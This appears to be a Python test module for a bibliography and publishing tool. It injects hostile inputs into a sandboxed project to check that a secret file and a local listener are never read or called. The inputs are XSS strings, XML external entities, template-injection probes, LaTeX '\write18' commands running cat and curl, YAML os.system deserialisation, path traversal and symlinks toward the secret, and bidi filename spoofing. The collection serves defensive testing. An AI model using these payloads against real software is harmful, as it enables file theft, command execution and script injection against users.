"""The hostile vectors: each one changes a small project so that something might be read, called, run or shown."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

from robustness.atelier import Atelier

Vector = Callable[[Atelier], None]


def filled(text: str, atelier: Atelier) -> str:
    """A payload with the addresses of this project's secret and listener in it."""
    for name, value in {
        "<FILE>": (atelier.vault / "secret").as_uri(),
        "<PATH>": str(atelier.vault / "secret"),
        "<DOTS>": "../../../coffre/secret",
        "<PERCENT>": "%2e%2e/%2e%2e/%2e%2e/coffre/secret",
        "<HTTP>": f"http://127.0.0.1:{atelier.port}",
        "<HOST>": f"127.0.0.1:{atelier.port}",
    }.items():
        text = text.replace(name, value)
    return text


# --- texts: what a documentalist or an import may put in a field, or in the spec -------------------------------------

MARKUP: Mapping[str, str] = {
    "img file": '<img src="<FILE>.svg">',
    "img http": '<img src="<HTTP>/a.png" onerror=alert(1)>',
    "img srcset": '<img srcset="<HTTP>/a.png 2x, <FILE>.svg 1x">',
    "link attachment": '<link rel=attachment href="<FILE>.txt"><a rel=attachment href="<FILE>.txt">x</a>',
    "link stylesheet": '<link rel=stylesheet href="<FILE>.css"><link rel=stylesheet href="<HTTP>/a.css">',
    "base": '<base href="<HTTP>/">',
    "end of style": "</style><style>@import url(<HTTP>/a.css); @import url(<FILE>.css)</style>",
    "end of title": "</title></head><script src=<HTTP>/a.js></script>",
    "end of attribute": '"><img src="<HTTP>/a.png"><p x="',
    "end of attribute, other quote": "' onmouseover='alert(1)' style='background:url(<HTTP>/a.png)",
    "object": '<object data="<FILE>.svg"></object><embed src="<FILE>.svg"><iframe src="<FILE>.txt"></iframe>',
    "svg": '<svg><image href="<FILE>.svg"/><use href="<HTTP>/a.svg#a"/><script>alert(1)</script></svg>',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "<FILE>.txt">]>&e;',
    "escaped markup": "&lt;img src=&quot;<HTTP>/a.png&quot;&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "comment": "<!-- <img src='<HTTP>/a.png'> --!> <![CDATA[ <b> ]]>",
    "refresh": '<meta http-equiv="refresh" content="0;url=<HTTP>/"><form action="<HTTP>/"><input></form>',
    "template": "{{ 7 * 7 }} {{ cycler.__init__.__globals__ }} {% include '<PATH>.txt' %} {# x #}",
    "format string": "{0.__class__} {term.__globals__} %(title)s ${HOME} $HOME `id`",
    "css": "} h1 { background: url(<HTTP>/a.png) } @import '<FILE>.css';",
    "latex input": r"\input{<PATH>.txt} \include{<PATH>.txt} \includegraphics{<PATH>.svg} \openin5=<PATH>.txt",
    "latex href": r"\href{javascript:alert(1)}{x} \href{file://<PATH>.txt}{y} \url{<FILE>.txt} \url{smb://h/x}",
    "latex write18": r"\write18{cat <PATH>.txt} \immediate\write18{curl <HTTP>/} \def\x{\x\x}\x \csname a\endcsname",
    "control characters": "a\x01b\x07c\x08d\x1b[31me\x7ff\x9bg\ufeffh",
    "bidi overrides": "facture\u202efdp.exe\u202c \u2066x\u2069 \u202da\u200fb",
}


def _all_fields(payload: str, atelier: Atelier) -> None:
    text = filled(payload, atelier)
    atelier.write_bib(
        title=text,
        subtitle=text,
        author=f"{{{text}}} and Nom, {text}",
        journaltitle=text,
        issuetitle=text,
        publisher=text,
        volume=text,
        number=text,
        pages=text,
        date=text,
        note=text,
        language=text,
        keywords=text,
        annotation=f"{text}\n\n{text}",
        annotationsource=text,
        entrysubtype=text,
        doi=text.replace(" ", ""),
        url="https://example.org/" + text.replace(" ", "").replace("\n", ""),
        links=f"{text} <https://example.org/a> (pdf)\n{text}",
    )


def _all_spec(payload: str, atelier: Atelier) -> None:
    text = filled(payload, atelier)
    names = ("title", "subtitle", "event", "publisher", "description", "closing", "authors", "keywords")
    atelier.write_spec(section=text, **dict.fromkeys(names, text))


def _letter(payload: str, atelier: Atelier) -> None:
    atelier.write_letter(filled(payload, atelier))


MARKDOWN: Mapping[str, str] = {
    "image": "![x](<FILE>.svg) ![y](<HTTP>/a.png) ![z][r]\n\n[r]: <HTTP>/a.png",
    "link": "[x](javascript:alert(1)) [y](<FILE>.txt) [z](data:text/html,x) [w](//<HOST>/a) [v](JaVa\tscript:alert(1))",
    "link by name": "[x][r] [y][s]\n\n[r]: javascript:alert(1)\n[s]: <FILE>.txt 'title'",
    "autolink": "<javascript:alert(1)> <<FILE>.txt> <smb://h/x>",
    "markup": "<script src=<HTTP>/a.js></script>\n\n<div onclick=alert(1)>x</div>\n\n<!-- x -->",
    "entities": "&lt;script&gt; &#60;script&#62; [x](&#106;avascript:alert(1))",
    "code": "`<script>`\n\n```html\n<img src=<HTTP>/a.png>\n```",
    "quotation in a list": "> - > - > - > - > - > - > - > - > - > - > - > - > x",
    "many brackets": "[" * 150 + "x" + "](a)" * 150,
    "many stars": "*a **b " * 400,
}


def _citekey(payload: str, atelier: Atelier) -> None:
    key = filled(payload, atelier)
    atelier.write_bib(key=key)
    atelier.write_spec(keys=key)


CITEKEYS: Mapping[str, str] = {
    "path": "../../../etc/passwd",
    "markup": "<script>alert(1)</script>",
    "quote": "x'onclick='alert(1)",
    "template": "$.{.7*7.}",
    "newline and colon": "javascript:alert(1)",
    "bidi": "a\u202eb",
    "not ascii": "éé–汉字",
    "empty anchor": "…",
}

# --- links -----------------------------------------------------------------------------------------------------------

ADDRESSES: Mapping[str, str] = {
    "javascript": "javascript:alert(1)",
    "javascript, mixed case": "JaVaScRiPt:alert(1)",
    "javascript, tab inside": "java\tscript:alert(1)",
    "javascript, newline inside": "java\nscript:alert(1)",
    "javascript, control before": "\x01javascript:alert(1)",
    "javascript, zero width inside": "java\u200bscript:alert(1)",
    "javascript, escaped": "&#106;avascript:alert(1)",
    "javascript after http": "http:javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "<FILE>.txt",
    "FILE": "FILE://<PATH>.txt",
    "file, one slash": "file:<PATH>.txt",
    "path": "<PATH>.txt",
    "relative path": "<DOTS>.txt",
    "percent path": "<PERCENT>.txt",
    "host alone": "//<HOST>/a",
    "backslashes": r"\\<HOST>\share",
    "smb": "smb://<HOST>/share",
    "ftp": "ftp://<HOST>/a",
    "jar": "jar:<HTTP>/a.jar!/",
    "view-source": "view-source:<HTTP>/",
    "http, which may be a link": "<HTTP>/page",
    "blank inside": "foo bar",
    "fragment": "#contents",
    "empty host": "https://",
    "bad IPv6": "http://[",
    "bad port": "http://a:b:c/",
    "NFKC host": "https://a\u2100b.example/",
    "quotes": "https://example.org/'onclick='alert(1)\"><img/src=<HTTP>/>",
    "bidi": "https://example.org/\u202ecod.exe",
    "surrogate escape": "https://example.org/%ed%a0%80%00%0a",
    "mailto": "mailto:a@example.org?subject=x%0aBcc:b@example.org",
}


def _address(payload: str, atelier: Atelier) -> None:
    address = filled(payload, atelier)
    atelier.write_bib(url=address, doi=address, links=f"Le texte <{address}> (pdf)\n<{address}>\n{address}")
    atelier.write_spec(closing=f"Voir {address} et <{address}> ou http://{address}.")


# --- style sheets and what stands beside them ------------------------------------------------------------------------

SHEETS: Mapping[str, str] = {
    "import file": '@import url("<FILE>.css");',
    "import path": '@import "<PATH>.css";',
    "import relative": '@import "<DOTS>.css";',
    "import percent": '@import "<PERCENT>.css";',
    "import http": "@import url(<HTTP>/a.css);",
    "import host": "@import url(//<HOST>/a.css);",
    "import data": '@import "data:text/css,@import%20url(<HTTP>/a.css);";',
    "background file": "h1 { background: url(<FILE>.svg) }",
    "background FILE": "h1 { background: url(FILE://<PATH>.svg) }",
    "background http": "h1 { background: url(<HTTP>/a.png) } @page { background: url(<HTTP>/b.png) }",
    "background host": "h1 { background: url(//<HOST>/a.png) }",
    "background relative": "h1 { background: url(<DOTS>.svg) }",
    "background percent": "h1 { background: url(<PERCENT>.svg) }",
    "background absolute": "h1 { background: url(/etc/passwd), url(<PATH>.svg) }",
    "background bad address": "h1 { background: url(http://[), url(https://a\u2100b/) }",
    "background ftp": "h1 { background: url(ftp://<HOST>/a.png) }",
    "data svg with file": (
        'h1 { background: url(\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
        '<image href="<FILE>.svg" width="9" height="9"/></svg>\') }'
    ),
    "content": "h1::after { content: url(<FILE>.svg) url(<HTTP>/a.png) attr(href) }",
    "list style": "ul { list-style: url(<HTTP>/a.png) }",
    "border image": "h1 { border: 1px solid; border-image: url(<HTTP>/a.png) 1; mask: url(<FILE>.svg) }",
    "font file": "@font-face { font-family: X; src: url(<FILE>.txt) } h1 { font-family: X }",
    "font http": "@font-face { font-family: X; src: url(<HTTP>/a.ttf) } h1 { font-family: X }",
    "font local": "@font-face { font-family: X; src: local('<PATH>.txt') } h1 { font-family: X }",
    "colour profile": "@color-profile device-cmyk { src: url(<FILE>.txt) } @color-profile --x { src: url(<HTTP>/) }",
    "link": "h1 { -weasy-link: url(javascript:alert\\(1\\)) } p { -weasy-link: url(<FILE>.txt) }",
    "end of style": "</style><script src=<HTTP>/a.js></script><style>",
    "end of style, escaped": "/* <\\/style> </StYlE ><img src=<HTTP>/> <!-- */ ]]>",
    "xml": '<?xml-stylesheet href="<FILE>.css"?> @charset "<HTTP>"; @namespace url(<HTTP>/);',
    "template": "h1::after { content: '{{ 7 * 7 }} {% include \"<PATH>.txt\" %}' }",
}


def _sheet(payload: str, atelier: Atelier) -> None:
    atelier.own_style(page=filled(payload, atelier))


# What a sheet would say to close the attribute that it is copied into, or to fetch and run where url() may not stand.
MAILS: Mapping[str, str] = {
    "end of attribute": '* { font-family: x" onmouseover="alert(1)" x=" }',
    "end of attribute, in a string": "* { font-family: 'x\"><img src=<HTTP>/a.png><p x=\"' }",
    "end of attribute, escaped": '* { font-family: "\\22\\3e\\3cscript src=<HTTP>/a.js\\3e" }',
    "end of attribute, in a name": "* { \\22 onload\\3d alert: red; colo\\72\\22\\3e: x }",
    "end of attribute, in a selector": '*, ["onload=alert(1)"], p["><img src=<HTTP>>"] { color: red }',
    "end of attribute, as entities": "* { color: red&quot; onload=&quot;alert(1); font-family: '&#34;&gt;&lt;b&gt;' }",
    "end of attribute, behind a comment": '* { color: red /* " */ "><b x=" /* */ }',
    "end of element": "* { color: red } --></style></head><script src=<HTTP>/a.js></script><!-- { x: y }",
    "end of a conditional comment": "* { font-family: '<![endif]--><script>alert(1)</script><!--[if mso]>' }",
    "a newline in a string": '* { font-family: \'x\n" onload="alert(1) }',
    "addresses": "* { background: url(<HTTP>/a.png); list-style: u\\72l(<HTTP>/b.png); cursor: URL('<HTTP>/c') }",
    "images that are no url": "* { background: image-set('<HTTP>/a.png' 1x), -webkit-image-set('<HTTP>/b' 1x) }",
    "an address in a variable": "* { --x: url(<HTTP>/a.png); background: var(--x, url(<HTTP>/b.png)) }",
    "an address in brackets": "* { width: calc(1px + (url(<HTTP>/a.png))); color: {url(<HTTP>)} }",
    "programs": "* { behavior: url(#default#VML); -moz-binding: x; width: expr\\65ssion(alert(1)); -o-link: 'a:x' }",
    "a filter that loads": "* { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='<HTTP>/a.png') }",
    "every sheet": "\n".join(SHEETS.values()),
    "rules that are not plain": (
        "@import '<HTTP>/a.css'; @font-face { src: url(<HTTP>/a) } p::before { content: url(<HTTP>/b) }"
    ),
}


def _mail(payload: str, atelier: Atelier) -> None:
    atelier.own_style(email=filled(payload, atelier))
    atelier.write_letter("Un mot", "maison")


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="20">'
DRAWINGS: Mapping[str, str] = {
    "svg image file": SVG_HEAD + '<image href="<FILE>.svg" width="90" height="20"/></svg>',
    "svg image xlink": SVG_HEAD + '<image xlink:href="<FILE>.svg" width="90" height="20"/></svg>',
    "svg image relative": SVG_HEAD + '<image href="<DOTS>.svg" width="90" height="20"/></svg>',
    "svg image http": SVG_HEAD + '<image href="<HTTP>/a.png" width="90" height="20"/></svg>',
    "svg use file": SVG_HEAD + '<use href="<FILE>.svg#a"/><use href="<HTTP>/a.svg#a"/></svg>',
    "svg style": SVG_HEAD + "<style>@import url(<HTTP>/a.css); @import '<FILE>.css';</style><text y='9'>x</text></svg>",
    "svg stylesheet": '<?xml-stylesheet href="<FILE>.css"?>' + SVG_HEAD + "<text y='9'>x</text></svg>",
    "svg external entity": '<!DOCTYPE svg [<!ENTITY e SYSTEM "<FILE>.txt">]>'
    + SVG_HEAD
    + "<text y='9'>&e;</text></svg>",
    "svg external DTD": '<!DOCTYPE svg SYSTEM "<HTTP>/a.dtd">' + SVG_HEAD + "<text y='9'>x</text></svg>",
    "svg XInclude": SVG_HEAD
    + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="<FILE>.txt"/></svg>',
    "svg script": SVG_HEAD + "<script href='<HTTP>/a.js'>alert(1)</script><a href='javascript:alert(1)'>"
    "<text y='9'>x</text></a></svg>",
}


def _drawing(payload: str, atelier: Atelier) -> None:
    atelier.own_style(page="h1 { background: url(dessin.svg) } h2::after { content: url(dessin.svg) }")
    (atelier.style / "dessin.svg").write_text(filled(payload, atelier), encoding="utf-8")


def _linked(name: str, target: str, sheet: str, atelier: Atelier) -> None:
    atelier.own_style(page=sheet)
    path = atelier.style / name
    path.unlink(missing_ok=True)
    path.symlink_to(Path(filled(target, atelier)))


LINKED: Mapping[str, tuple[str, str, str]] = {
    "symlink to a drawing": ("dessin.svg", "<PATH>.svg", "h1 { background: url(dessin.svg) }"),
    "symlink, relative": ("dessin.svg", "../<DOTS>.svg", "h1 { background: url(dessin.svg) }"),
    "symlink for page.css": ("page.css", "<PATH>.css", ""),
    "symlink for screen.css": ("screen.css", "<PATH>.css", ""),
    "symlink to a text under the name of a font": (
        "police.ttf",
        "<PATH>.txt",
        "@font-face { font-family: X; src: url(police.ttf) } h1 { font-family: X }",
    ),
    "symlink to a folder": ("images", "<PATH>/..", "h1 { background: url(images/secret.svg) }"),
}


def _bad_font(content: bytes, atelier: Atelier) -> None:
    atelier.own_style(page="@font-face { font-family: X; src: url(police.ttf) } h1 { font-family: X }")
    (atelier.style / "police.ttf").write_bytes(content)


FONTS: Mapping[str, bytes] = {
    "font: a text": b"<HTTP>/police\n",
    "font: a head alone": b"\0\1\0\0" + b"\xff" * 60,
    "font: an empty file": b"",
}


def _spec_line(line: str, atelier: Atelier) -> None:
    atelier.write_spec()
    atelier.spec.write_text(atelier.spec.read_text("utf-8") + filled(line, atelier) + "\n", encoding="utf-8")


SPEC_LINES: Mapping[str, str] = {
    "yaml object": "subtitle: !!python/object/apply:os.system ['cat <PATH>.txt']",
    "yaml name": "event: !!python/name:os.system",
    "yaml include": "closing: !include <PATH>.txt",
    "style is a path": "style: <DOTS>",
    "style is an address": "style: '<HTTP>/style'",
    "language is markup": "lang: '\"><script src=<HTTP>/>'",
}

VECTORS: Mapping[str, Vector] = {
    **{f"reference: {name}": partial(_all_fields, text) for name, text in MARKUP.items()},
    **{f"spec: {name}": partial(_all_spec, text) for name, text in MARKUP.items()},
    **{f"letter: {name}": partial(_letter, text) for name, text in {**MARKUP, **MARKDOWN}.items()},
    **{f"citekey: {name}": partial(_citekey, text) for name, text in CITEKEYS.items()},
    **{f"address: {name}": partial(_address, text) for name, text in ADDRESSES.items()},
    **{f"sheet: {name}": partial(_sheet, text) for name, text in SHEETS.items()},
    **{f"mail: {name}": partial(_mail, text) for name, text in MAILS.items()},
    **{f"drawing: {name}": partial(_drawing, text) for name, text in DRAWINGS.items()},
    **{f"style: {name}": partial(_linked, *row) for name, row in LINKED.items()},
    **{f"style: {name}": partial(_bad_font, content) for name, content in FONTS.items()},
    **{f"spec: {name}": partial(_spec_line, line) for name, line in SPEC_LINES.items()},
}
